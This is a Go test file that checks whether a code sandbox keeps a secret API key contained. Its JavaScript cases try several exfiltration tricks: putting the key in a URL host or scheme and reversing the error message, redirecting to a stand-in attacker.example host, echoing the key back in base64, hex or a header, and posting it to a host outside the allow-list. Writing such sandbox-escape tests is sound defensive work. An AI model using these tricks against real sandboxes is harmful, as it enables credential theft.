package adversarial

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
)

// netCases are cells with the network granted (127.0.0.1 only, GET and
// POST) that try to get the secret's value back from the host: by putting
// its token where a refusal quotes the URL (the host, the scheme, a
// redirect's target), or by having an allow-listed endpoint echo the
// unsealed value in an encoding. {echo} is an allow-listed server,
// {outsider} one that is not on the allow-list (the attacker's).
var netCases = []sandboxCase{
	{"secret as the host, refusal reversed", `try { await getJSON("http://" + k + "/") } catch (e) { output(rev(e.message)) }`, ""},
	{"secret as a subdomain of the allowed host", `try { await getJSON("http://" + k + ".127.0.0.1/") } catch (e) { output(rev(e.message)) }`, ""},
	{"secret as the scheme, refusal reversed", `try { await getJSON(k + "://x/") } catch (e) { output(rev(e.message)) }`, ""},
	{"secret as the scheme, uncaught", `await getJSON(k + "://x/")`, ""},
	{"redirect puts the secret in a refused host", `try { await getJSON("{echo}/redirect?k=" + k) } catch (e) { output(rev(e.message)) }`, ""},
	{"redirect carries the secret to the attacker", `try { await getJSON("{echo}/away?k=" + k) } catch (e) { output(rev(e.message)) }`, ""},
	{"allowed endpoint echoes it in base64", `const r = await fetch("{echo}/b64?k=" + k); output(rev(await r.text()))`, ""},
	{"allowed endpoint echoes it in hex", `const r = await fetch("{echo}/hex?k=" + k); output(rev(await r.text()))`, ""},
	{"allowed endpoint echoes it in a header", `const r = await fetch("{echo}/plain", {headers: {"X-Key": k}}); output(rev(r.headers.get("x-echo")))`, ""},
	{"post to a host not on the allow-list", `try { await postJSON("{outsider}/collect", {k}) } catch (e) { output(rev(e.message)) }`, ""},
}

// TestSandboxNetwork runs each netCase with `kairos cell run`. What must
// hold: no decoding of anything the process printed (in any letter case)
// gives the secret, and the attacker's server gets no request. (Found by
// this section: refusals quoted the unsealed host and scheme, so a cell
// could catch the error and reverse it; the host now seals errors.)
func TestSandboxNetwork(t *testing.T) {
	t.Parallel()
	bin := kairosBinary(t)
	var attackerHits atomic.Int32
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { attackerHits.Add(1) }))
	defer attacker.Close()
	outsider := strings.Replace(attacker.URL, "127.0.0.1", "localhost", 1)
	echo := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		k := r.URL.Query().Get("k")
		switch r.URL.Path {
		case "/redirect":
			http.Redirect(w, r, "http://"+k+".attacker.example/", http.StatusFound)
		case "/away":
			http.Redirect(w, r, outsider+"/collect?k="+k, http.StatusFound)
		case "/b64":
			fmt.Fprint(w, base64.StdEncoding.EncodeToString([]byte(k)))
		case "/hex":
			fmt.Fprint(w, hex.EncodeToString([]byte(k)))
		default:
			w.Header().Set("X-Echo", r.Header.Get("X-Key"))
		}
	}))
	defer echo.Close()

	dir := t.TempDir()
	pol := filepath.Join(dir, "policy.yaml")
	os.WriteFile(pol, []byte("features:\n  network: true\n  credentials_access: true\nnetwork:\n  allow_list: [127.0.0.1]\n  methods: [GET, POST]\n"+
		"budgets:\n  defaults:\n    time_budget_ms: 10000\n"), 0o600)
	var section tally
	// The first case fills the compilation cache; the others then run
	// side by side (each is its own process). The group ends when all have.
	t.Run("cases", func(t *testing.T) {
		for i, c := range netCases {
			t.Run(c.name, func(t *testing.T) {
				if i > 0 {
					t.Parallel()
				}
				ok, why := netCase(t, bin, dir, pol, i, c, echo.URL, outsider)
				section.add(c.name, ok, why)
			})
		}
	})
	if n := attackerHits.Load(); n != 0 {
		t.Errorf("the attacker's server got %d requests", n)
	}
	section.report(t, "sandbox network")
}

// netCase runs one netCase and says whether it was contained, and why not.
func netCase(t *testing.T, bin, dir, pol string, i int, c sandboxCase, echo, outsider string) (bool, string) {
	code := "const k = getSecret(\"API_KEY\"); const rev = s => String(s).split(\"\").reverse().join(\"\");\n" +
		strings.NewReplacer("{echo}", echo, "{outsider}", outsider).Replace(c.code)
	f := filepath.Join(dir, fmt.Sprintf("net-%d.js", i))
	if err := os.WriteFile(f, []byte(code), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(bin, "cell", "run", f)
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + dir, "KAIROS_DATA_DIR=" + filepath.Join(dir, "data"),
		"KAIROS_POLICY=" + pol, "KAIROS_SECRET_API_KEY=" + secret}
	out, _ := runCmd(t, cmd)
	var res struct {
		Output json.RawMessage `json:"output"`
		Error  string          `json:"error"`
	}
	jsonStart := strings.Index(out, "{\n")
	switch {
	case jsonStart < 0 || json.Unmarshal([]byte(out[jsonStart:]), &res) != nil:
		return false, "no result: " + tail(out, 300)
	case leaks(out) || leaksFolded(out):
		return false, "the secret comes out of " + tail(out, 300)
	case len(res.Output) == 0 && res.Error == "":
		return false, "the cell said nothing, so the case proves nothing: " + tail(out, 300)
	}
	return true, ""
}

// leaksFolded reports whether s, or s reversed, holds a third of the
// secret in any letter case (url.Parse lowers a scheme).
func leaksFolded(s string) bool {
	probe := strings.ToLower(secret[7:17])
	rev := []rune(strings.ToLower(s))
	for i, j := 0, len(rev)-1; i < j; i, j = i+1, j-1 {
		rev[i], rev[j] = rev[j], rev[i]
	}
	return strings.Contains(strings.ToLower(s), probe) || strings.Contains(string(rev), probe)
}
